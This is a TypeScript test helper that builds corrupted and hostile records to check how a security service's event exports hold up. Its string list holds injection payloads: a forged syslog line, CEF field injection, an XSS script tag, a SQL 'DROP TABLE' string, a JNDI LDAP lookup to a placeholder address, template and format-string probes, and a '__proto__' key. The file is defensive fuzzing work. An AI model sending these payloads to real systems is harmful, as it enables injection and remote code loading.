// Records as an attacker, an older version of the service, or plain bad luck would make them.

import type { ServiceRecord } from '../event.ts'
import type { Random } from './random.ts'

/** Strings that break careless formats: one per way of breaking them. */
export const hostileStrings: readonly [string, ...string[]] = [
  'line one\nline two',
  'carriage\r\n<14>1 2026-11-21T00:00:00Z forged host - - - injected',
  'separated\u2028by\u2029unicode',
  'pipe|and=equals|deviceSeverity=10',
  'back\\slash \\n not a newline \\| \\=',
  'a]b"c[d sd="x" ]',
  '\uFEFFafter a byte order mark',
  'tab\there, bell\u0007, escape\u001b[31mred\u001b[0m, nul\u0000.',
  'delete\u007f next line\u0085 end',
  'right\u202eto left\u202c and \u2066isolated\u2069',
  'lone high \ud800 surrogate',
  'lone low \udfff surrogate',
  'emoji 😀 family 👨‍👩‍👧 and ẞpecial İ',
  '{"json":"inside","hits":5}',
  '</script><script>alert(1)</script>',
  "'; DROP TABLE events; --",
  '${jndi:ldap://203.0.113.9/a} %s %n {{7*7}} ${env:HOME}',
  '\u00a0\u2003 spaces of all kinds \u200b',
  '2026-11-21T10:00:00Z',
  '',
  ' ',
  'null',
  '-',
]

/** Makes an attack odd in one to three ways. What identifies it stays readable. */
export function spoilAttack(random: Random, attack: ServiceRecord, hugeShare: number): Record<string, unknown> {
  const spoiled: Record<string, unknown> = { ...attack }
  for (let i = random.int(1, 3); i > 0; i--) spoil(random, spoiled)
  if (random.chance(hugeShare)) spoiled['path'] = `/${hugeText(random)}`
  return spoiled
}

/** Makes a vulnerability, rule or condition odd: one of its texts is hostile, something unknown is added. */
export function spoilOther(random: Random, record: ServiceRecord): Record<string, unknown> {
  const spoiled: Record<string, unknown> = { ...record }
  const texts = Object.keys(spoiled).filter((key) => typeof spoiled[key] === 'string' && !fixed.has(key))
  const [first, ...rest] = texts
  if (first !== undefined) spoiled[random.pick([first, ...rest])] = random.pick(hostileStrings)
  if (random.chance(0.3)) addUnknown(random, spoiled)
  return spoiled
}

/** Up to 300 KB, partly of characters that take several bytes. */
export function hugeText(random: Random): string {
  const piece = random.pick(['A', '%2e%2e%2f', 'é', '\n', '日本', '"\\'])
  return piece.repeat(Math.floor(random.int(20_000, 300_000) / Buffer.byteLength(piece)))
}

// Spoiling these would change whether a record is shown, not how it reads.
const fixed = new Set(['status', 'type', 'attackid'])

const nullable = [
  'domain',
  'block_status',
  'vulnid',
  'state',
  'poolid',
  'point',
  'country_top',
  'recheck_status',
  'experimental',
  'tor',
  'datacenter',
  'ip_top',
  'statuscodes',
  'threat',
  'method',
] as const
const textual = ['domain', 'path', 'parameter', 'method', 'target', 'block_status'] as const
const counters = ['hits', 'ip_count', 'vectors_count'] as const

function spoil(random: Random, attack: Record<string, unknown>): void {
  const way = random.int(0, 9)
  if (way === 0) delete attack[random.pick(nullable)]
  else if (way === 1) attack[random.pick(nullable)] = null
  else if (way === 2) attack[random.pick(['path', 'parameter', 'type'])] = '[multiple]'
  else if (way === 3) attack['type'] = random.pick(['quantum_injection', 'x'.repeat(80), 'Ünknown type', ''])
  else if (way === 4) addUnknown(random, attack)
  else if (way === 5) nameOtherwise(random, attack)
  else if (way === 6) attack['ip_top'] = [{ ip: random.pick(hostileStrings), count: 1.5, country: null }, 'odd', null]
  else if (way === 7) attack[random.pick(counters)] = random.pick([3.25, 1e15, 0, -1, '12', null])
  else attack[random.pick(textual)] = random.pick(hostileStrings)
}

function addUnknown(random: Random, record: Record<string, unknown>): void {
  const key = random.pick(['new_key', 'ключ', 'a b', '0', 'a=b|c', 'constructor', '__proto__', 'ai_summary'])
  const value = random.pick<unknown>([{ nested: [1, { deep: true }] }, 'text', 7.5, null, [], hostileStrings[0]])
  // Defined, not assigned: `__proto__` must arrive as a key like any other.
  Object.defineProperty(record, key, { value, enumerable: true, writable: true, configurable: true })
}

/** The forms of identity that occur: an array of two, or only `id`. */
function nameOtherwise(random: Random, attack: Record<string, unknown>): void {
  if (random.chance(0.5)) delete attack['attackid']
  else attack['attackid'] = attack['id']
}
